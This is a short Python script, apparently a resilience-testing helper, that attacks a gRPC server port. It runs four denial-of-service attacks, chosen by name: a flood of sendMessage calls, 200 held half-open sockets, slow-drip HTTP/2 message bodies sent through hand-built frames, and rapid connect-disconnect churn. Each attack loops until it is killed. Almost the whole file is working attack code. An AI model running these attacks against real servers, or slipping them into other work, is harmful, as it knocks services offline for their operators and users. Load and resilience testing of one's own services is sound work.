"""Attacks on a server's port, from a process of their own: python attacks_on_a_port.py NAME HOST:PORT REQUEST.

REQUEST is a file with a CommRequest. Each attack goes on until it is killed.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

import grpc

METHOD = "/gRPCCommManager/sendMessage"


def flood(target: str, request: bytes) -> None:
    """2,000 small messages, one after the other, again and again."""
    while True:
        with grpc.insecure_channel(target) as channel:
            call = channel.unary_unary(METHOD)
            for _ in range(2000):
                call(request, timeout=30)


def half_open(target: str, request: bytes) -> None:
    """200 connections on which nothing is ever sent."""
    host, port = target.rsplit(":", 1)
    kept: list[socket.socket] = []
    while True:
        kept = [each for each in kept if not closed(each)]
        kept += [socket.create_connection((host, int(port))) for _ in range(200 - len(kept))]
        time.sleep(0.1)


def a_byte_a_second(target: str, request: bytes) -> None:
    """50 calls whose message of 100 kB comes one byte a second."""
    calls = [begin_call(target, 100_000) for _ in range(50)]
    while True:
        for number, call in enumerate(calls):
            try:
                call.sendall(frame(0, 0, 1, b"x"))
            except OSError:
                calls[number] = begin_call(target, 100_000)
        time.sleep(1)


def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def begin_call(target: str, size: int) -> socket.socket:
    """Begin a call of sendMessage with a message of so many bytes, and send none of them."""
    host, port = target.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)))
    path, kind = METHOD.encode(), b"application/grpc"
    headers = b"\x83\x86" + b"\x04" + bytes([len(path)]) + path + b"\x01\x01x"
    headers += b"\x0f\x10" + bytes([len(kind)]) + kind + b"\x00\x02te\x08trailers"
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 4, 1, headers))
    connection.sendall(frame(0, 0, 1, b"\x00" + struct.pack(">I", size)))
    return connection


def come_and_go(target: str, request: bytes) -> None:
    """Connects and disconnects 500 times, every five seconds."""
    host, port = target.rsplit(":", 1)
    while True:
        start = time.monotonic()
        for _ in range(500):
            with contextlib.suppress(OSError), socket.create_connection((host, int(port))) as connection:
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        time.sleep(max(0.0, start + 5 - time.monotonic()))


def closed(connection: socket.socket) -> bool:
    """Whether the other side has closed a connection."""
    connection.setblocking(False)
    try:
        while connection.recv(4096):
            pass
    except BlockingIOError:
        return False
    except OSError:
        pass
    return True


ATTACKS: dict[str, Callable[[str, bytes], None]] = {
    each.__name__: each for each in (flood, half_open, a_byte_a_second, come_and_go)
}

if __name__ == "__main__":
    content = Path(sys.argv[3]).read_bytes()
    print("attacking", flush=True)
    while True:
        with contextlib.suppress(grpc.RpcError, OSError):
            ATTACKS[sys.argv[1]](sys.argv[2], content)
